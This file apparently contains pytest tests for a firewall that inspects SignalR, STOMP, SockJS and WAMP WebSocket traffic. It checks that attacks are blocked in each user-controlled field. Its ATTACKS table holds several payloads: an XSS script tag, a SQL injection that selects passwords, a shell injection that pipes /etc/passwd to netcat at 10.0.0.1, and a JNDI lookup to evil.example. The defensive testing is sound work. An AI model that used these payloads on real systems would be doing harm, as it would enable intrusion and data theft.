"""Attacks of several classes in every place that a user controls: blocked, with the exact field."""

from __future__ import annotations

import json
from base64 import b64encode
from typing import Any

import pytest

from framewall.detect import builtin_engine
from framewall.replay import Lines
from support.msgpack import pack

ATTACKS = {
    "xss": "<script>alert(1)</script>",
    "sqli": "' UNION SELECT password FROM users--",
    "rce": "; cat /etc/passwd | nc 10.0.0.1 4444",
    "jndi": "${jndi:ldap://evil.example/a}",
}
TOKEN = "uFtJ0zV8rXqP2mY7kLw3Ag"
ENGINE = builtin_engine()


def framed(record: bytes) -> bytes:
    """A MessagePack record of at least 128 and less than 16,384 bytes, or less, with its length."""
    length = len(record)
    head = [length] if length < 128 else [length & 0x7F | 0x80, length >> 7]
    return bytes(head) + record


def signalr(record: dict[str, Any] | list[Any]) -> list[dict[str, Any]]:
    """A handshake, and a record in either protocol."""
    packed = isinstance(record, list)
    first = json.dumps({"protocol": "messagepack" if packed else "json", "version": 1}) + "\x1e"
    data = framed(pack(record)) if packed else json.dumps(record).encode() + b"\x1e"
    lines: list[dict[str, Any]] = [{"data": first}, {"data_b64": b64encode(data).decode()}]
    return [{"session": "s", "path": f"/chat?id={TOKEN}", **line} for line in lines]


def stomp(headers: str, body: str = "") -> list[dict[str, Any]]:
    """A frame after a connection."""
    said = ["CONNECT\naccept-version:1.2\n\n\0", f"SEND\ndestination:/a\n{headers}\n{body}\0"]
    return [{"session": "s", "path": "/ws", "subprotocol": "v12.stomp", "data": data} for data in said]


def sockjs(*messages: str, **line: str) -> list[dict[str, Any]]:
    """Messages in a frame."""
    opened = {"session": "s", "path": "/echo/000/abc/websocket", "data": "o", "direction": "server"}
    return [opened, {"session": "s", "path": "/echo/000/abc/websocket", "data": json.dumps(messages), **line}]


def wamp(message: list[Any], subprotocol: str = "wamp.2.json") -> list[dict[str, Any]]:
    """A message after a greeting."""
    json_too = subprotocol in ("wamp.2.json", "wamp")
    data = {"data": json.dumps(message)} if json_too else {"data_b64": b64encode(pack(message)).decode()}
    return [{"session": "s", "path": "/ws", "subprotocol": subprotocol, **data}]


PLACES: dict[str, Any] = {
    "signalr, an argument": (
        "args[1].text",
        lambda a: signalr({"type": 1, "target": "M", "arguments": [1, {"text": a}]}),
    ),
    "signalr, a target": ("target", lambda a: signalr({"type": 1, "target": a, "arguments": []})),
    "signalr, a header": (
        'headers["x"]',
        lambda a: signalr({"type": 1, "headers": {"x": a}, "target": "M", "arguments": []}),
    ),
    "signalr, an item": ("item", lambda a: signalr({"type": 2, "invocationId": "1", "item": a})),
    "signalr, a packed argument": (
        "args[1].text",
        lambda a: signalr([1, {}, None, "M", [1, {"text": a}], []]),
    ),
    "signalr, a packed target": ("target", lambda a: signalr([1, {}, None, a, [], []])),
    "signalr, JSON in a packed argument": (
        "args[0].fieldValue",
        lambda a: signalr([1, {}, None, "DispatchBrowserEvent", [json.dumps({"fieldValue": a})]]),
    ),
    "signalr2, an argument": (
        "args[0]",
        lambda a: [
            {
                "path": "/signalr/connect?transport=webSockets&connectionToken=a&clientProtocol=2.1",
                "data": json.dumps({"H": "chat", "M": "Send", "A": [a], "I": 0}),
            }
        ],
    ),
    "stomp, a body": ("body.text", lambda a: stomp("", json.dumps({"text": a}))),
    "stomp, a selector": (
        'headers["selector"]',
        lambda a: stomp(f"selector:{a.replace(':', chr(92) + 'c')}\n"),
    ),
    "sockjs, a message": ("message.text", lambda a: sockjs("hello", json.dumps({"text": a}))),
    "sockjs, in a body": (
        "message.text",
        lambda a: [
            {
                "path": "/echo/000/abc/xhr_send",
                "transport": "xhr",
                "data": json.dumps([json.dumps({"text": a})]),
            }
        ],
    ),
    "wamp, an argument": ("args[0].text", lambda a: wamp([48, 1, {}, "proc", [{"text": a}]])),
    "wamp, a keyword": ("kwargs.text", lambda a: wamp([16, 1, {}, "topic", [], {"text": a}])),
    "wamp, a topic": ("topic", lambda a: wamp([16, 1, {}, a, []])),
    "wamp, a packed option": ("options.x", lambda a: wamp([48, 1, {"x": a}, "proc"], "wamp.2.msgpack")),
    "wamp 1, an argument": ("args[0]", lambda a: wamp([2, "1", "http://a/proc", a], "wamp")),
    "wamp 1, an event": ("event.text", lambda a: wamp([7, "http://a/topic", {"text": a}], "wamp")),
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", PLACES)
def test_an_attack_is_blocked_where_it_is(place: str, attack: str) -> None:
    """And the same words without it pass."""
    field, lines = PLACES[place]
    judge = Lines(ENGINE)
    answers = [judge.judge(line) for line in lines(ATTACKS[attack])]
    assert [answer["verdict"] for answer in answers[:-1]] == ["pass"] * (len(answers) - 1)
    assert answers[-1]["verdict"] == "block"
    assert (attack, field) in {(found["attack"], found["field"]) for found in answers[-1]["findings"]}
    judge = Lines(ENGINE)
    for line in lines("hello"):
        assert judge.judge(line)["findings"] == []
